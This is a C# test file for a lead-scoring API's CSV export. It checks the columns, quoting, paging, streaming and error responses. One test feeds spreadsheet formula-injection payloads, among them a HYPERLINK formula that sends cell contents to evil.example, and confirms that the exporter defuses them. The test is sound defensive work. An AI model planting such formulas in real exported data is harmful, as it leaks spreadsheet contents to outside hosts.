using System.Net;
using System.Text;
using CsvHelper;
using LeadScoring.Domain.Leads;
using LeadScoring.Functions.Http;
using LeadScoring.Functions.Leads.List;
using LeadScoring.Tests.Kit.Builders;
using LeadScoring.Tests.Kit.Drivers;
using LeadScoring.Tests.Kit.Fakes;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Http;
using Microsoft.AspNetCore.Mvc;
using Microsoft.Extensions.Logging;

namespace LeadScoring.Tests.Leads.List;

/// <summary>GET /api/v1/leads.csv.</summary>
public sealed class LeadCsvTests
{
    private const string Header =
        "id,email,model,version,score,grade,route,to,stage,epoch,respondBy,priority,flames,known,until,reasons,firstSeenAt,lastActivityAt,company,jobTitle,country,phone,owner,because,scoreRoute,scoreTo,overdue,firstName,lastName,progress,target,status,callAgainBy";

    private readonly InMemoryApp _app = new();

    [Fact]
    public async Task A_lead_is_a_line_with_its_figures_and_what_is_known_of_it()
    {
        await _app.Publish(CrmModel.Yaml);
        await _app.Send([.. Sent.Visits("ann@acme.example", 4), Profile("ann@acme.example", """{"jobTitle":"VP Sales","company":"Acme, \"Nord\"","country":["DE","AT"],"phone":"+49 30 1"}""")]);

        var file = await _app.Csv();

        Assert.Equal(
            $"\uFEFF{Header}\r\n{_app.IdOf("ann@acme.example")},ann@acme.example,crm,1,80,A1,hot,sales,qualified,1,2026-03-03T12:00:00Z,15,3,100,2026-03-05,Pricing page (+8); Senior title (+8),2026-03-01T12:00:00Z,2026-03-01T12:00:00Z,\"Acme, \"\"Nord\"\"\",VP Sales,DE; AT,'+49 30 1,sales,Handed to sales by the route 'hot' on 2026-03-01. Sales is to answer by 2026-03-03 12:00 UTC.,hot,sales,false,,,,,Lead,\r\n",
            file);
    }

    [Fact]
    public async Task The_answer_is_a_file_to_be_saved()
    {
        await _app.Publish(CrmModel.Yaml);

        var response = await Answer("");

        Assert.Equal(200, response.StatusCode);
        Assert.Equal("text/csv; charset=utf-8", response.ContentType);
        Assert.Equal("attachment; filename=\"leads.csv\"", response.Headers.ContentDisposition.ToString());
        Assert.Equal([.. Encoding.UTF8.Preamble, .. Encoding.UTF8.GetBytes(Header + "\r\n")], ((MemoryStream)response.Body).ToArray());
    }

    [Fact]
    public async Task The_file_has_only_the_header_without_a_model() => Assert.Equal($"\uFEFF{Header}\r\n", await _app.Csv());

    [Fact]
    public async Task A_lead_is_a_line_for_each_model_under_which_it_passes()
    {
        await _app.Publish(CrmModel.Yaml);
        await _app.Publish(CrmModel.Other("erp"));
        await _app.Send([.. Sent.Visits("a@acme.example", 4), .. Sent.Visits("b@acme.example", 2)]);

        Assert.Equal([("a", "crm"), ("a", "erp"), ("b", "crm"), ("b", "erp")], Lines(await _app.Csv()).Select(static line => (Name(line), line["model"])));
        Assert.Equal([("a", "crm")], Lines(await _app.Csv("?minScore=40")).Select(static line => (Name(line), line["model"])));
        Assert.Equal([("a", "erp"), ("b", "erp")], Lines(await _app.Csv("?model=erp")).Select(static line => (Name(line), line["model"])));
    }

    [Theory]
    [InlineData("")]
    [InlineData("?sort=priority")]
    [InlineData("?minScore=30")]
    [InlineData("?grade=A3&sort=priority")]
    [InlineData("?to=nurture&route=warm")]
    public async Task The_file_has_the_leads_of_all_pages_in_their_order(string query)
    {
        await _app.Publish(CrmModel.Yaml);
        await _app.Send([.. Enumerable.Range(0, 30).SelectMany(static i => (string[])[.. Sent.Visits($"lead{i}@acme.example", i % 6, daysAgo: i % 4 * 9), Sent.Title($"lead{i}@acme.example", i % 5 == 0 ? "VP" : "Clerk")])]);
        var (_, page) = await _app.Leads(query.Length == 0 ? "?limit=200" : query + "&limit=200");

        var file = Lines(await _app.Csv(query));

        Assert.NotEmpty(file);
        Assert.Equal(page.GetProperty("leads").EnumerateArray().Select(static lead => lead.GetProperty("id").GetString()), file.Select(static line => line["id"]));
    }

    [Fact]
    public async Task The_file_has_all_leads_and_is_sent_while_it_is_read()
    {
        await _app.Publish(CrmModel.Yaml);
        await Many();
        _app.Operations.Reset();
        var body = new NotedStream(() => _app.Operations.Count("Leads", OperationKind.Read));

        await Answer("", body);

        Assert.Equal(250, Lines(Encoding.UTF8.GetString(body.ToArray())).Select(static line => line["id"]).Distinct().Count());
        Assert.Equal(LeadCsvHandler.PageLeads, body.ReadsAtFirstByte);
        Assert.InRange(_app.Operations.Count("Leads", OperationKind.Read), 250, 300);
    }

    [Theory]
    [InlineData("?limit=5", "LS-QUERY-001")]
    [InlineData("?continuation=abc", "LS-QUERY-001")]
    [InlineData("?grade=A5", "LS-QUERY-002")]
    [InlineData("?sort=name", "LS-QUERY-002")]
    public async Task A_parameter_that_cannot_be_used_is_a_problem_and_no_file(string query, string code)
    {
        await _app.Publish(CrmModel.Yaml);

        var response = await Answer(query);

        Assert.Equal((400, "application/problem+json"), (response.StatusCode, response.ContentType));
        Assert.Contains(code, Encoding.UTF8.GetString(((MemoryStream)response.Body).ToArray()), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Form_answers_are_never_formulas_and_can_be_read_back()
    {
        await _app.Publish(CrmModel.Yaml);
        const string Evil = "=HYPERLINK(\"http://evil.example?x=\"&A1,\"a\")";
        await _app.Send(Sent.Pricing("=cmd@acme.example"), Profile("=cmd@acme.example", """{"company":"=HYPERLINK(\"http://evil.example?x=\"&A1,\"a\")","jobTitle":" \t@SUM(1)","country":"\uFF1D1","phone":"a\r\n=1"}"""));

        var line = Assert.Single(Lines(await _app.Csv()));

        Assert.Equal("'=cmd@acme.example", line["email"]);
        Assert.Equal("'" + Evil, line["company"]);
        Assert.Equal(["'", "'", "a"], ((string[])["jobTitle", "country", "phone"]).Select(name => line[name]![..1]));
    }

    [Fact]
    [Needs(Need.Network)]
    public async Task A_storage_failure_is_an_error_before_the_first_line_and_ends_the_file_later()
    {
        await _app.Publish(CrmModel.Yaml);
        await Many();
        await using var host = await Serve();
        using var http = new HttpClient { BaseAddress = new Uri(host.Urls.First()) };
        _app.Operations.Reset();
        _app.Operations.Before = operation => operation.Place == "Leads" && _app.Operations.Count("Leads", OperationKind.Read) >= 150
            ? throw new IOException("The test has cut the line.")
            : Task.CompletedTask;

        using var answer = await http.GetAsync(new Uri("/api/v1/leads.csv", UriKind.Relative), HttpCompletionOption.ResponseHeadersRead);
        await using var body = await answer.Content.ReadAsStreamAsync();
        using var received = new MemoryStream();
        await Assert.ThrowsAnyAsync<Exception>(() => body.CopyToAsync(received));

        Assert.Equal(HttpStatusCode.OK, answer.StatusCode);
        Assert.Equal(LeadCsvHandler.PageLeads + 1, Encoding.UTF8.GetString(received.ToArray()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Length);
        using var second = await http.GetAsync(new Uri("/api/v1/leads.csv", UriKind.Relative));
        Assert.Equal(HttpStatusCode.ServiceUnavailable, second.StatusCode);
    }

    private async Task<WebApplication> Serve()
    {
        var builder = WebApplication.CreateSlimBuilder();
        builder.Logging.ClearProviders();
        builder.WebHost.UseUrls("http://127.0.0.1:0");
        var host = builder.Build();
        host.Run(Respond);
        await host.StartAsync();
        return host;
    }

    private async Task Respond(HttpContext context)
    {
        var result = await StorageFailures.ToProblem(() => _app.Get<LeadCsvHandler>().Handle(context.Request.Query, context.RequestAborted));
        await result.ExecuteResultAsync(new ActionContext { HttpContext = context });
    }

    private async Task<HttpResponse> Answer(string query, MemoryStream? body = null)
    {
        var context = new DefaultHttpContext { Request = { QueryString = new QueryString(query) }, Response = { Body = body ?? new MemoryStream() } };
        var result = await _app.Get<LeadCsvHandler>().Handle(context.Request.Query, default);
        await result.ExecuteResultAsync(new ActionContext { HttpContext = context });
        return context.Response;
    }

    private Task Many() => _app.Send([.. Enumerable.Range(0, 250).Select(static i => Sent.Pricing($"lead{i}@acme.example"))]);

    private static List<Dictionary<string, string?>> Lines(string file)
    {
        using var reader = CsvReader.Create(new StringReader(file.TrimStart('\uFEFF')));
        var lines = new List<Dictionary<string, string?>>();
        foreach (var record in reader)
            lines.Add(record.ToDictionary());
        return lines;
    }

    private static string Name(Dictionary<string, string?> line) => line["email"]!.Split('@')[0];

    private static string Profile(string email, string profile) =>
        Sent.Event(email, "profile.updated").Replace("\"properties\":{}", $"\"profile\":{profile}", StringComparison.Ordinal);

    /// <summary>Notes how many leads were read when the first byte came.</summary>
    private sealed class NotedStream(Func<int> reads) : MemoryStream
    {
        public int? ReadsAtFirstByte { get; private set; }

        public override ValueTask WriteAsync(ReadOnlyMemory<byte> buffer, CancellationToken cancellationToken = default)
        {
            ReadsAtFirstByte ??= reads();
            return base.WriteAsync(buffer, cancellationToken);
        }
    }
}
